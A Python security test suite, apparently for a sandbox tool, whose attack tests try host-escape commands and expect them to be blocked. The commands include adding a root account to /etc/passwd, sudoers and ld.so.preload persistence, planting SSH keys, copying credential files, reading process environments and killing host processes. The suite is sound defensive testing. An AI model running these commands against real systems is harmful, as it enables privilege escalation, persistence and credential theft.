"""The attacks. Each runs inside `txbox run` (with the permissive policy, so
the sandbox and not the policy is what stops it) and then checks the host.

Conventions: attack scripts print `BLOCKED step: why` / `ESCAPED step: what`
(see harness.Ctx.PRELUDE and c/probe.h) and end with PROBE-DONE and exit 0,
so the transaction commits and the commit path sees whatever the attack left
behind. Everything an attack creates is named after ctx.pwn (txsec-pwn-MARK)
so the generic marker scan finds it wherever it lands."""

import os
import resource
import shutil
import signal
import socket
import stat
import subprocess
import threading
import time

from harness import (Fail, Skip, attack, check, file_sha, read_text, rmtree_force, short, snapshot,
                     snapshot_diff, which, HostSleep, Listener)

MIB = 1 << 20

# The secrets the default policy masks; the suite plants a fake of each in
# a temporary HOME (path relative to HOME, files inside it).
SECRETS = [
    ("ssh", ".ssh", {"id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n",
                     "id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n",
                     "config": "Host prod\n  IdentityFile ~/.ssh/id_rsa # %s\n"}),
    ("aws", ".aws", {"credentials": "[default]\naws_access_key_id = AKIA%s\naws_secret_access_key = %s\n",
                     "config": "[default]\nregion = eu-west-1 # %s\n"}),
    ("gnupg", ".gnupg", {"private-keys-v1.d/0123ABCD.key": "(private-key %s)\n", "secring.gpg": "%s\n",
                         "pubring.kbx": "%s\n"}),
    ("azure", ".azure", {"accessTokens.json": "[{\"accessToken\": \"%s\"}]\n",
                         "msal_token_cache.json": "{\"AccessToken\": \"%s\"}\n"}),
    ("gcloud", ".config/gcloud", {"credentials.db": "SQLite %s\n",
                                  "application_default_credentials.json": "{\"refresh_token\": \"%s\"}\n",
                                  "configurations/config_default": "[core]\naccount = %s\n"}),
    ("kube", ".kube", {"config": "users:\n- name: admin\n  user:\n    token: %s\n"}),
    ("docker", ".docker/config.json", "{\"auths\": {\"registry\": {\"auth\": \"%s\"}}}\n"),
    ("netrc", ".netrc", "machine github.com login bot password %s\n"),
    ("git-credentials", ".git-credentials", "https://bot:%s@github.com\n"),
    ("npmrc", ".npmrc", "//registry.npmjs.org/:_authToken=%s\n"),
    ("pypirc", ".pypirc", "[pypi]\nusername = __token__\npassword = %s\n"),
]


def fill(template, secret):
    return template.replace("%s", secret)


def plant_secrets(home, secret):
    """Fake secrets (and start-up files) in a temporary HOME."""
    for _, rel, content in SECRETS:
        path = os.path.join(home, rel)
        if isinstance(content, dict):
            for name, tmpl in content.items():
                p = os.path.join(path, name)
                os.makedirs(os.path.dirname(p), exist_ok=True)
                with open(p, "w") as f:
                    f.write(fill(tmpl, secret))
            os.chmod(path, 0o700)
        else:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(fill(content, secret))
            os.chmod(path, 0o600)
    with open(os.path.join(home, ".bashrc"), "w") as f:
        f.write("# sentinel bashrc\nexport PS1='$ '\n")
    with open(os.path.join(home, ".profile"), "w") as f:
        f.write("# sentinel profile\n")
    os.makedirs(os.path.join(home, ".config", "autostart"), exist_ok=True)


def host_ipv4():
    """A non-loopback IPv4 address of the host, or None."""
    ip = which("ip")
    if not ip:
        return None
    out = subprocess.run([ip, "-o", "-4", "addr"], capture_output=True, text=True).stdout
    for line in out.splitlines():
        parts = line.split()
        if len(parts) >= 4 and parts[1] != "lo":
            return parts[3].split("/")[0]
    return None


def ip_state():
    ip = which("ip")
    if not ip:
        return None
    out = []
    for args in (["-o", "link"], ["-o", "addr"], ["route", "show", "table", "all"], ["-6", "route", "show", "table", "all"],
                 ["rule"]):
        r = subprocess.run([ip] + args, capture_output=True, text=True)
        # link statistics and address lifetimes change by themselves: drop them
        lines = [l.split(" valid_lft")[0] for l in r.stdout.splitlines()]
        out.append("\n".join(lines))
    return "\n---\n".join(out)


def assert_same(before, after, what):
    d = snapshot_diff(before, after)
    if d:
        raise Fail("%s changed on the host: %s" % (what, "; ".join(d[:8])))


# ===========================================================================
# Filesystem writes outside the workspace

@attack("fs-write-etc")
def fs_write_etc(ctx):
    sentinel = None
    if ctx.is_root:
        sentinel = "/etc/txsec-sentinel-%s" % os.urandom(4).hex()
        with open(sentinel, "w") as f:
            f.write("sentinel\n")
        ctx.on_cleanup(lambda: os.path.exists(sentinel) and os.unlink(sentinel))
    else:
        ctx.note("as a user no sentinel can be planted in /etc; the listing and file hashes are checked")
    before = snapshot("/etc", content=True)
    passwd = file_sha("/etc/passwd")
    ws = ctx.workspace("etc")
    body = r"""
must_fail_sh etc-create "echo pwn > /etc/$PWN"
must_fail_sh etc-mkdir "mkdir /etc/$PWN.d"
must_fail_sh etc-append-passwd "echo '$PWN:x:0:0::/:/bin/sh' >> /etc/passwd"
must_fail_sh etc-touch-hosts "touch /etc/hosts"
must_fail_sh etc-cron "echo '* * * * * root touch /tmp/$PWN' > /etc/cron.d/$PWN"
must_fail_sh etc-sudoers "echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/$PWN"
must_fail_sh etc-ld-preload "echo /tmp/$PWN.so > /etc/ld.so.preload"
must_fail_sh etc-profile "echo 'touch /tmp/$PWN' > /etc/profile.d/$PWN.sh"
must_fail_sh etc-python-write "python3 -c \"open('/etc/$PWN.py','w').write('x')\""
S='%s'
if [ -n "$S" ]; then
  must_fail_sh etc-sentinel-write "echo pwn > $S"
  must_fail_sh etc-sentinel-rm "rm $S"
  must_fail_sh etc-sentinel-mv "mv $S /etc/$PWN.moved"
  must_fail_sh etc-sentinel-chmod "chmod 4777 $S"
  must_fail_sh etc-sentinel-truncate "truncate -s 0 $S"
fi
""" % (sentinel or "")
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["etc-create", "etc-append-passwd", "etc-touch-hosts"])
    assert_same(before, snapshot("/etc", content=True), "/etc")
    check(file_sha("/etc/passwd") == passwd, "/etc/passwd changed")
    if sentinel:
        check(read_text(sentinel) == "sentinel\n", "the /etc sentinel changed")


@attack("fs-write-usr")
def fs_write_usr(ctx):
    dirs = {"/usr": False, "/usr/bin": False, "/usr/local": True, "/usr/lib": False, "/usr/sbin": False}
    before = {d: snapshot(d, recursive=r, content=r) for d, r in dirs.items()}
    env_sha = file_sha("/usr/bin/env")
    ws = ctx.workspace("usr")
    body = r"""
must_fail_sh usr-bin-create "echo pwn > /usr/bin/$PWN"
must_fail_sh usr-local-bin "cp /bin/sh /usr/local/bin/$PWN"
must_fail_sh usr-lib-create "echo pwn > /usr/lib/$PWN.so"
must_fail_sh usr-overwrite-env "cp /bin/true /usr/bin/env"
must_fail_sh usr-chmod-suid "chmod u+s /usr/bin/env"
must_fail_sh usr-touch "touch /usr/bin/env"
must_fail_sh usr-rm "rm -f /usr/bin/env"
must_fail_sh usr-mkdir "mkdir /usr/local/$PWN"
must_fail_sh usr-rename "mv /usr/bin/env /usr/bin/env.$PWN"
"""
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["usr-bin-create", "usr-overwrite-env", "usr-rm"])
    for d, r in dirs.items():
        assert_same(before[d], snapshot(d, recursive=r, content=r), d)
    check(file_sha("/usr/bin/env") == env_sha, "/usr/bin/env changed")


@attack("fs-write-home")
def fs_write_home(ctx):
    before = snapshot(ctx.home, recursive=True, content=True)
    ws = ctx.workspace("home")
    body = r"""
must_fail_sh home-create "echo pwn > $HOME/$PWN"
must_fail_sh home-bashrc "echo 'touch /tmp/$PWN' >> $HOME/.bashrc"
must_fail_sh home-profile "echo pwn > $HOME/.profile"
must_fail_sh home-autostart "echo pwn > $HOME/.config/autostart/$PWN.desktop"
must_fail_sh home-mkdir "mkdir $HOME/$PWN.d"
must_fail_sh home-authorized-keys "mkdir -p $HOME/.ssh && echo ssh-ed25519 AAAA $PWN >> $HOME/.ssh/authorized_keys"
must_fail_sh home-rm-bashrc "rm $HOME/.bashrc"
must_fail_sh home-mv "mv $HOME/.profile $HOME/$PWN.moved"
must_fail_sh home-tilde "echo pwn > ~/$PWN.tilde"
must_fail_sh home-chmod "chmod 777 $HOME"
"""
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["home-create", "home-bashrc", "home-rm-bashrc"])
    assert_same(before, snapshot(ctx.home, recursive=True, content=True), "the HOME directory")


@attack("fs-write-root")
def fs_write_root(ctx):
    can_list = os.access("/root", os.R_OK | os.X_OK)
    before = snapshot("/root", content=True) if can_list else None
    if not can_list:
        ctx.note("/root is not readable as uid %d: only the attack's own report and the marker scan are checked"
                 % ctx.uid)
    ws = ctx.workspace("root")
    body = r"""
must_fail_sh root-create "echo pwn > /root/$PWN"
must_fail_sh root-bashrc "echo 'touch /tmp/$PWN' >> /root/.bashrc"
must_fail_sh root-ssh "mkdir -p /root/.ssh && echo ssh-ed25519 AAAA $PWN >> /root/.ssh/authorized_keys"
must_fail_sh root-mkdir "mkdir /root/$PWN.d"
must_fail_sh root-chmod "chmod 777 /root"
"""
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["root-create", "root-bashrc", "root-mkdir"])
    if before is not None:
        assert_same(before, snapshot("/root", content=True), "/root")


def _parent_attack(ctx, where):
    base = os.path.join(ctx.vis_root if where == "vis" else ctx.tmp_root, "parents")
    parent = os.path.join(base, "p-" + where)
    os.makedirs(parent, exist_ok=True)
    with open(os.path.join(parent, "sentinel.txt"), "w") as f:
        f.write("sentinel\n")
    os.makedirs(os.path.join(parent, "sibling"), exist_ok=True)
    with open(os.path.join(parent, "sibling", "keep.txt"), "w") as f:
        f.write("keep\n")
    ws = ctx.workspace("ws", parent=parent)
    before = snapshot(parent, recursive=True, content=True, skip=[ws])
    steps = r"""
W='%s'
P='%s'
%s parent-create "echo pwn > ../$PWN"
%s parent-abs "echo pwn > $P/$PWN.abs"
%s parent-mkdir "mkdir ../$PWN.d"
%s parent-sentinel-append "echo pwn >> ../sentinel.txt"
%s parent-sentinel-rm "rm ../sentinel.txt"
%s parent-sentinel-mv "mv ../sentinel.txt ../$PWN.moved"
%s parent-sibling-write "echo pwn > ../sibling/keep.txt"
%s parent-symlink "ln -s /etc ../$PWN.lnk"
%s parent-proc-cwd "echo pwn > /proc/self/cwd/../$PWN.proc"
%s parent-cd-up "cd .. && echo pwn > $PWN.cd"
%s parent-chmod "chmod 777 .."
%s parent-rename-ws "mv $W $W.$PWN"
""" % ((ws, parent) + (("must_fail_sh" if where == "vis" else "try_sh"),) * 12)
    return ws, parent, before, "try_sh() { /bin/sh -c \"$2\" >/dev/null 2>&1 && echo \"INFO $1 worked inside (private tmpfs)\"; }\n" + steps


@attack("fs-write-ws-parent")
def fs_write_ws_parent(ctx):
    """The workspace's parent, where the sandbox shows the host read-only."""
    ws, parent, before, body = _parent_attack(ctx, "vis")
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["parent-create", "parent-abs", "parent-sentinel-rm", "parent-proc-cwd"])
    assert_same(before, snapshot(parent, recursive=True, content=True, skip=[ws]), "the workspace's parent")


@attack("fs-write-ws-parent-tmp")
def fs_write_ws_parent_tmp(ctx):
    """A workspace under /var/tmp: the sandbox replaces /var/tmp by a private
    tmpfs, so writes next to the workspace may work inside; the host's parent
    directory must not change."""
    ws, parent, before, body = _parent_attack(ctx, "tmp")
    res = ctx.run(ws, body)
    check("PROBE-DONE" in res.stdout, "the attack did not run: %s" % res.describe())
    assert_same(before, snapshot(parent, recursive=True, content=True, skip=[ws]), "the workspace's parent")


@attack("fs-write-shared-tmp")
def fs_write_shared_tmp(ctx):
    """/tmp, /var/tmp, /dev/shm are private inside: nothing reaches the host's."""
    ws = ctx.workspace("shared-tmp")
    body = r"""
echo pwn > /tmp/$PWN && echo "INFO /tmp writable (private)"
echo pwn > /var/tmp/$PWN
echo pwn > /dev/shm/$PWN
mkdir /tmp/$PWN.d
ln -s /etc /tmp/$PWN.lnk
"""
    res = ctx.run(ws, body)
    check("PROBE-DONE" in res.stdout, "the attack did not run: %s" % res.describe())
    for d in ("/tmp", "/var/tmp", "/dev/shm"):
        for suffix in ("", ".d", ".lnk"):
            p = os.path.join(d, ctx.pwn + suffix)
            check(not os.path.lexists(p), "%s appeared on the host" % p)


# ===========================================================================
# Secrets

def _secret_attack(ctx, label, rel):
    ws = ctx.workspace("secret-" + label)
    body = r"""
T="$HOME/%s"
echo "== ls"; ls -laR "$T" 2>&1 | head -50
echo "== cat"
if [ -d "$T" ]; then find "$T" -type f -exec cat {} + 2>&1; else cat "$T" 2>&1; fi
echo "== via /proc/self/root"
find "/proc/self/root$T" -type f -exec cat {} + 2>&1
echo "== via /proc/1/root"
find "/proc/1/root$T" -type f -exec cat {} + 2>&1
echo "== python"
python3 - "$T" <<'EOF' 2>&1
import os, sys
t = sys.argv[1]
paths = [t] if not os.path.isdir(t) else [os.path.join(d, f) for d, _, fs in os.walk(t) for f in fs]
for p in paths:
    try:
        print(p, open(p, "rb").read()[:4096])
    except OSError as e:
        print(p, e)
EOF
echo "== tar"
tar cf - "$T" 2>/dev/null | tr -c '[:print:]\n' '.' | head -c 20000
echo "== copy into the workspace"
cp -r "$T" ./loot 2>&1
cat "$T" > ./loot.cat 2>&1
echo "== grep"
grep -rs TXSECRET "$T" "/proc/1/root$T" "/proc/self/root$T" 2>/dev/null | head
echo "== unmask"
must_fail umount-mask umount "$T"
must_fail umount-lazy umount -l "$T"
""" % rel
    res = ctx.run(ws, body)
    ctx.expect_blocked(res)
    check(ctx.secret not in res.stdout and ctx.secret not in res.stderr,
          "the content of ~/%s is readable inside the sandbox" % rel)


def _make_secret_attack(label, rel):
    @attack("secret-" + label)
    def _fn(ctx):
        _secret_attack(ctx, label, rel)
    return _fn


for _label, _rel, _ in SECRETS:
    _make_secret_attack(_label, _rel)


@attack("secret-symlinked-dir")
def secret_symlinked_dir(ctx):
    """~/.aws is a symlink to the real directory elsewhere: masking must hide
    what it points to (read by either path)."""
    home = os.path.join(ctx.vis_root, "home-symlinked")
    real = os.path.join(ctx.vis_root, "real-aws")
    rmtree_force(home)
    rmtree_force(real)
    os.makedirs(home)
    os.makedirs(real)
    with open(os.path.join(real, "credentials"), "w") as f:
        f.write("[default]\naws_secret_access_key = %s\n" % ctx.secret)
    os.symlink(real, os.path.join(home, ".aws"))
    ws = ctx.workspace("secret-symlinked")
    body = r"""
cat "$HOME/.aws/credentials" 2>&1
cat '%s/credentials' 2>&1
cp -r '%s' ./loot 2>&1
""" % (real, real)
    res = ctx.run(ws, body, home=home)
    check(ctx.secret not in res.stdout + res.stderr,
          "a masked secret behind a symlink (~/.aws -> %s) is readable inside" % real)


@attack("secret-workspace-contains-home")
def secret_workspace_contains_home(ctx):
    """The workspace is an ancestor of HOME (-w /srv/users with HOME=/srv/users/me):
    the masks lie inside the overlay then, and must still hold."""
    parent = os.path.join(ctx.vis_root, "users")
    home = os.path.join(parent, "me")
    rmtree_force(parent)
    os.makedirs(home)
    plant_secrets(home, ctx.secret)
    ctx.workspaces.append(parent)
    ctx.secret_ok_under.append(home)  # planted on purpose; new copies are still flagged
    ctx.allow_error = True  # refusing such a workspace is also fine
    body = r"""
cat "$HOME/.ssh/id_rsa" 2>&1
cat "$HOME/.aws/credentials" 2>&1
cat me/.netrc me/.git-credentials 2>&1
grep -rs TXSECRET . 2>/dev/null | head
"""
    res = ctx.run(parent, body, home=home)
    ctx.allow_error = False
    if res.outcome == "error":
        ctx.note("txbox refused the workspace: %s" % res.get("error"))
        return
    check(ctx.secret not in res.stdout + res.stderr,
          "with the workspace %s containing HOME=%s, the masked secrets are readable inside "
          "(the overlay on the workspace covers the masks)" % (parent, home))


@attack("secret-env")
def secret_env(ctx):
    ws = ctx.workspace("env")
    body = r"""
echo "== env"; env
echo "== /proc/self/environ"; tr '\0' '\n' < /proc/self/environ
echo "== /proc/1/environ"; tr '\0' '\n' < /proc/1/environ 2>&1
echo "== all"; for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ 2>/dev/null; done
echo "== export"; export -p
env > ./env-dump.txt
cat /proc/1/environ > ./init-env.txt 2>/dev/null
"""
    res = ctx.run(ws, body)
    leaked = []
    for line in res.stdout.splitlines():
        name = line.split("=", 1)[0].replace("export ", "").strip()
        if name in ctx.SECRET_ENV or name == "SSH_AUTH_SOCK":
            leaked.append(name)
    if leaked:
        raise Fail("secret environment variables visible inside: %s" % ", ".join(sorted(set(leaked))))
    check(ctx.secret not in res.stdout, "a secret environment value is visible inside")


# ===========================================================================
# Network

@attack("net-tcp-localhost")
def net_tcp_localhost(ctx):
    l4 = Listener(socket.AF_INET, ("127.0.0.1", 0))
    ctx.on_cleanup(l4.close)
    u4 = Listener(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_DGRAM)
    ctx.on_cleanup(u4.close)
    l6 = None
    try:
        l6 = Listener(socket.AF_INET6, ("::1", 0))
        ctx.on_cleanup(l6.close)
    except OSError:
        ctx.note("no IPv6 loopback on the host: ::1 not tried")
    p4, pu = l4.addr[1], u4.addr[1]
    p6 = l6.addr[1] if l6 else 0
    ws = ctx.workspace("tcp")
    body = r"""
"$BIN/net" tcp 127.0.0.1 %d | grep -v PROBE-DONE
[ %d -ne 0 ] && "$BIN/net" tcp ::1 %d | grep -v PROBE-DONE
"$BIN/net" udp 127.0.0.1 %d | grep -v PROBE-DONE
must_fail_sh bash-dev-tcp "bash -c 'echo TXSEC > /dev/tcp/127.0.0.1/%d'"
must_fail python-connect python3 -c "import socket; s=socket.create_connection(('127.0.0.1', %d), 3); s.send(b'TXSEC')"
must_fail python-connect-localhost python3 -c "import socket; s=socket.create_connection(('localhost', %d), 3); s.send(b'TXSEC')"
""" % (p4, p6, p6, pu, p4, p4, p4)
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["tcp-127.0.0.1:%d" % p4, "bash-dev-tcp", "python-connect"])
    for l, what in ((l4, "127.0.0.1 TCP"), (u4, "127.0.0.1 UDP"), (l6, "::1 TCP")):
        if l:
            l.close()
            check(not l.hits, "the host's %s listener got %d connection(s)/datagram(s) from the sandbox: %s"
                  % (what, len(l.hits), l.hits[:2]))


@attack("net-tcp-host-ip")
def net_tcp_host_ip(ctx):
    ip = host_ipv4()
    if not ip:
        raise Skip("the host has no non-loopback IPv4 address")
    l = Listener(socket.AF_INET, ("0.0.0.0", 0))
    ctx.on_cleanup(l.close)
    port = l.addr[1]
    ws = ctx.workspace("tcp-host-ip")
    res = ctx.run(ws, r"""
"$BIN/net" tcp %s %d | grep -v PROBE-DONE
must_fail python-connect python3 -c "import socket; socket.create_connection(('%s', %d), 3).send(b'TXSEC')"
""" % (ip, port, ip, port))
    ctx.expect_blocked(res, ["tcp-%s:%d" % (ip, port), "python-connect"])
    l.close()
    check(not l.hits, "the host listener on %s:%d got a connection from the sandbox" % (ip, port))


@attack("net-egress")
def net_egress(ctx):
    ws = ctx.workspace("egress")
    res = ctx.run(ws, r"""
"$BIN/net" tcp 1.1.1.1 443 | grep -v PROBE-DONE
"$BIN/net" tcp 8.8.8.8 53 | grep -v PROBE-DONE
"$BIN/net" tcp 2606:4700:4700::1111 443 | grep -v PROBE-DONE
must_fail dns-lookup getent hosts example.com
must_fail python-dns python3 -c "import socket; print(socket.getaddrinfo('example.com', 443))"
""")
    ctx.expect_blocked(res, ["tcp-1.1.1.1:443", "tcp-8.8.8.8:53", "dns-lookup"])


@attack("net-unix-socket")
def net_unix_socket(ctx):
    """A Unix socket listener outside the workspace, in a directory the
    sandbox can see (a host service such as /run/docker.sock or the D-Bus
    system bus is exactly this)."""
    d = os.path.join(ctx.vis_root, "sock")
    os.makedirs(d, exist_ok=True)
    os.chmod(d, 0o755)
    path = os.path.join(d, "host.sock")
    dpath = os.path.join(d, "dgram.sock")
    for p in (path, dpath):
        if os.path.lexists(p):
            os.unlink(p)
    l = Listener(socket.AF_UNIX, path)
    ctx.on_cleanup(l.close)
    ld = Listener(socket.AF_UNIX, dpath, socket.SOCK_DGRAM)
    ctx.on_cleanup(ld.close)
    os.chmod(path, 0o777)
    os.chmod(dpath, 0o777)
    # and one the sandbox cannot even see (/var/tmp is private inside)
    tdir = os.path.join(ctx.tmp_root, "sock")
    os.makedirs(tdir, exist_ok=True)
    tpath = os.path.join(tdir, "t.sock")
    if os.path.lexists(tpath):
        os.unlink(tpath)
    lt = Listener(socket.AF_UNIX, tpath)
    ctx.on_cleanup(lt.close)
    ws = ctx.workspace("unix")
    res = ctx.run(ws, r"""
"$BIN/net" unix '%s' | grep -v PROBE-DONE
"$BIN/net" unix-dgram '%s' | grep -v PROBE-DONE
"$BIN/net" unix '%s' | grep -v PROBE-DONE
must_fail python-unix python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('%s'); s.send(b'TXSEC-PY')"
""" % (path, dpath, tpath, path))
    for x in (l, ld, lt):
        x.close()
    problems = []
    esc = res.lines("ESCAPED")
    if esc:
        problems.append("inside: " + "; ".join(e[8:] for e in esc))
    for x, what in ((l, path), (ld, dpath), (lt, tpath)):
        if x.hits:
            problems.append("the host listener %s received %d connection(s)/datagram(s) from the sandbox (%s)"
                            % (what, len(x.hits), short(x.hits[0][1], 60)))
    if problems:
        raise Fail("; ".join(problems))
    ctx.expect_blocked(res)


def _abstract(ctx, net):
    name = "txsec-abs-" + ctx.mark + ("-net" if net else "")
    l = Listener(socket.AF_UNIX, "\0" + name)
    ctx.on_cleanup(l.close)
    ws = ctx.workspace("abstract" + ("-net" if net else ""))
    res = ctx.run(ws, r"""
"$BIN/net" abstract '%s' | grep -v PROBE-DONE
must_fail python-abstract python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\0%s'); s.send(b'TXSEC')"
""" % (name, name), opts=["--net"] if net else [])
    l.close()
    check(not l.hits, "the host's abstract socket @%s got %d connection(s) from the sandbox%s"
          % (name, len(l.hits), " (with --net)" if net else ""))
    ctx.expect_blocked(res, ["abstract-@" + name, "python-abstract"])


@attack("net-abstract-unix")
def net_abstract_unix(ctx):
    _abstract(ctx, False)


@attack("net-abstract-unix-with-net")
def net_abstract_unix_with_net(ctx):
    """--net shares the host's network namespace; abstract sockets stay scoped
    (Landlock ABI >= 6) per src/sandbox/landlock.c."""
    _abstract(ctx, True)


def _raw(ctx, net):
    ws = ctx.workspace("raw" + ("-net" if net else ""))
    res = ctx.run(ws, r'"$BIN/net" raw', opts=["--net"] if net else [])
    ctx.expect_blocked(res, ["af_packet-raw", "raw-icmp", "af_vsock"])


@attack("net-raw-socket")
def net_raw_socket(ctx):
    _raw(ctx, False)


@attack("net-raw-socket-with-net")
def net_raw_socket_with_net(ctx):
    _raw(ctx, True)


def _netconfig(ctx, net):
    before = ip_state()
    if before is None:
        raise Skip("no ip(8) on the host")
    ws = ctx.workspace("netcfg" + ("-net" if net else ""))
    body = r"""
must_fail ip-link-add ip link add txsdummy0 type dummy
must_fail ip-addr-add ip addr add 10.77.77.77/32 dev lo
must_fail ip-route-add ip route add 10.78.0.0/16 dev lo
must_fail ip-rule-add ip rule add from 10.79.0.0/16 lookup 100
must_fail_sh sysctl-ip-forward "echo 1 > /proc/sys/net/ipv4/ip_forward"
must_fail_sh sysctl-rp-filter "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter"
if command -v iptables >/dev/null; then must_fail iptables-append iptables -A INPUT -s 10.77.0.0/16 -j DROP; else echo "INFO no iptables in the image"; fi
if command -v nft >/dev/null; then must_fail nft-add-table nft add table inet txsec; else echo "INFO no nft in the image"; fi
"""
    if not net:
        body += "must_fail ip-link-lo-down ip link set lo down\nmust_fail ip-link-eth0-down ip link set eth0 down\n"
    if not which("iptables"):
        ctx.note("no iptables/nft on this machine: netfilter changes tried only if present in the image")

    def restore():
        if not ctx.is_root:
            return
        ip = which("ip")
        for args in (["link", "del", "txsdummy0"], ["addr", "del", "10.77.77.77/32", "dev", "lo"],
                     ["route", "del", "10.78.0.0/16"], ["rule", "del", "from", "10.79.0.0/16", "lookup", "100"]):
            subprocess.run([ip] + args, capture_output=True)
    ctx.on_cleanup(lambda: ip_state() != before and restore())
    res = ctx.run(ws, body, opts=["--net"] if net else [])
    ctx.expect_blocked(res, ["ip-link-add", "ip-addr-add", "ip-route-add"])
    after = ip_state()
    if after != before:
        import difflib
        d = [l for l in difflib.unified_diff(before.splitlines(), after.splitlines(), lineterm="", n=0)
             if l[:1] in "+-" and not l.startswith(("+++", "---"))]
        raise Fail("host network configuration changed: %s" % "; ".join(d[:6]))


@attack("net-config")
def net_config(ctx):
    _netconfig(ctx, False)


@attack("net-config-with-net")
def net_config_with_net(ctx):
    """With --net the sandbox shares the host's interfaces: changing them
    must still be refused (no CAP_NET_ADMIN)."""
    _netconfig(ctx, True)


# ===========================================================================
# Processes

def _host_sleep(ctx):
    s = HostSleep()
    ctx.on_cleanup(s.stop)
    time.sleep(0.05)
    return s


@attack("proc-host-invisible")
def proc_host_invisible(ctx):
    s = _host_sleep(ctx)
    ws = ctx.workspace("proc-visible")
    res = ctx.run(ws, r"""
TAG='%s'; HP=%d
# (the tag is matched by the shell itself: no process of ours carries it in argv)
found=
for p in /proc/[0-9]*; do
  c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null)
  case "$c" in *"sleep $TAG"*) found="$found $p";; esac
done
if [ -n "$found" ]; then esc "host-process-in-proc:$found"; else blk "host-process-in-proc: not found"; fi
c=$(tr '\0' ' ' < /proc/$HP/cmdline 2>/dev/null)
case "$c" in *"sleep $TAG"*) esc "host-pid-dir: /proc/$HP is the host's sleep";; *) blk "host-pid-dir: absent";; esac
echo "INFO processes visible: $(ls -d /proc/[0-9]* | wc -l)"
""" % (s.tag, s.pid))
    ctx.expect_blocked(res, ["host-process-in-proc", "host-pid-dir"])


@attack("proc-kill-host")
def proc_kill_host(ctx):
    s = _host_sleep(ctx)
    ws = ctx.workspace("proc-kill")
    res = ctx.run(ws, r"""
HP=%d
must_fail kill-0 kill -0 $HP
must_fail kill-STOP kill -STOP $HP
must_fail kill-9 kill -9 $HP
must_fail python-kill python3 -c "import os; os.kill($HP, 9)"
must_fail pidfd-kill python3 -c "import os, signal; fd = os.pidfd_open($HP); signal.pidfd_send_signal(fd, 9)"
kill -9 -1 2>/dev/null; echo "INFO kill -1 done (reaches only the sandbox)"
""" % s.pid)
    ctx.expect_blocked(res, ["kill-0", "kill-9", "python-kill"])
    alive, state, _ = s.state()
    check(alive, "the host process %d was killed from the sandbox" % s.pid)
    check(state not in ("T", "t"), "the host process %d was stopped from the sandbox (state %s)" % (s.pid, state))


@attack("proc-ptrace-host")
def proc_ptrace_host(ctx):
    s = _host_sleep(ctx)
    ws = ctx.workspace("ptrace")
    res = ctx.run(ws, r"""
"$BIN/ptrace" %d
""" % s.pid)
    ctx.expect_blocked(res, ["ptrace-attach-host", "ptrace-seize-host", "ptrace-attach-own-child", "ptrace-traceme"])
    alive, state, tracer = s.state()
    check(alive and tracer == 0 and state not in ("t", "T"),
          "the host process changed: alive=%s state=%s tracer=%d" % (alive, state, tracer))


@attack("proc-1-root")
def proc_1_root(ctx):
    parent = os.path.join(ctx.vis_root, "parents", "p-proc1")
    os.makedirs(parent, exist_ok=True)
    ws = ctx.workspace("ws", parent=parent)
    before_etc = snapshot("/etc", content=True)
    before_parent = snapshot(parent, recursive=True, content=True, skip=[ws])
    res = ctx.run(ws, r"""
P='%s'
ls /proc/1/root/ >/dev/null 2>&1 && echo "INFO /proc/1/root lists (the sandbox's own root)"
must_fail_sh proc1root-etc "echo pwn > /proc/1/root/etc/$PWN"
must_fail_sh proc1root-parent "echo pwn > /proc/1/root$P/$PWN"
must_fail_sh proc1root-home "echo pwn > /proc/1/root$HOME/$PWN"
must_fail_sh proc1-environ "cat /proc/1/environ"
ls /proc/1/fd >/dev/null 2>&1 && echo "INFO /proc/1/fd lists (numbers only)"
must_fail_sh proc1-fd-readlink "readlink -e /proc/1/fd/1"
must_fail_sh proc1-fd-ls-l "ls -l /proc/1/fd/ | grep -- '->'"
must_fail_sh proc1-cwd "ls /proc/1/cwd/"
for fd in 0 1 2 3 4 5 6 7 8 9 10 11 12; do must_fail_sh proc1-fd-$fd-write "echo pwn > /proc/1/fd/$fd"; done
must_fail_sh proc1-mem "head -c 16 /proc/1/mem"
must_fail_sh proc-self-root-dotdot "echo pwn > /proc/self/root/../../../etc/$PWN"
must_fail_sh proc-thread-self-root "echo pwn > /proc/thread-self/root/etc/$PWN"
if awk '$2 == "/" {print $4}' /proc/self/mounts | grep -q '^rw'; then esc "root-mounted-rw"; else blk "root-mounted-rw: no"; fi
""" % parent)
    ctx.expect_blocked(res, ["proc1root-etc", "proc1root-parent", "proc1-environ", "proc1-fd-1-write"])
    assert_same(before_etc, snapshot("/etc", content=True), "/etc")
    assert_same(before_parent, snapshot(parent, recursive=True, content=True, skip=[ws]), "the workspace's parent")


@attack("proc-self-mem")
def proc_self_mem(ctx):
    ws = ctx.workspace("selfmem")
    res = ctx.run(ws, r'"$BIN/sys" selfmem')
    ctx.expect_blocked(res, ["mount-after-selfmem", "open-/proc/1/mem-rw"])


@attack("proc-sys-write")
def proc_sys_write(ctx):
    keys = ["kernel/hostname", "kernel/domainname", "kernel/core_pattern", "kernel/sysrq", "kernel/modprobe",
            "vm/drop_caches", "vm/overcommit_memory", "kernel/randomize_va_space", "fs/protected_hardlinks",
            "net/ipv4/ip_forward", "kernel/panic", "user/max_user_namespaces", "kernel/pid_max"]
    before = {k: read_text("/proc/sys/" + k) for k in keys}
    ws = ctx.workspace("procsys")
    res = ctx.run(ws, r"""
must_fail_sh sys-hostname "echo $PWN > /proc/sys/kernel/hostname"
must_fail_sh sys-domainname "echo $PWN > /proc/sys/kernel/domainname"
must_fail_sh sys-core-pattern "echo '|/tmp/$PWN' > /proc/sys/kernel/core_pattern"
must_fail_sh sys-sysrq "echo 1 > /proc/sys/kernel/sysrq"
must_fail_sh sys-modprobe "echo /tmp/$PWN > /proc/sys/kernel/modprobe"
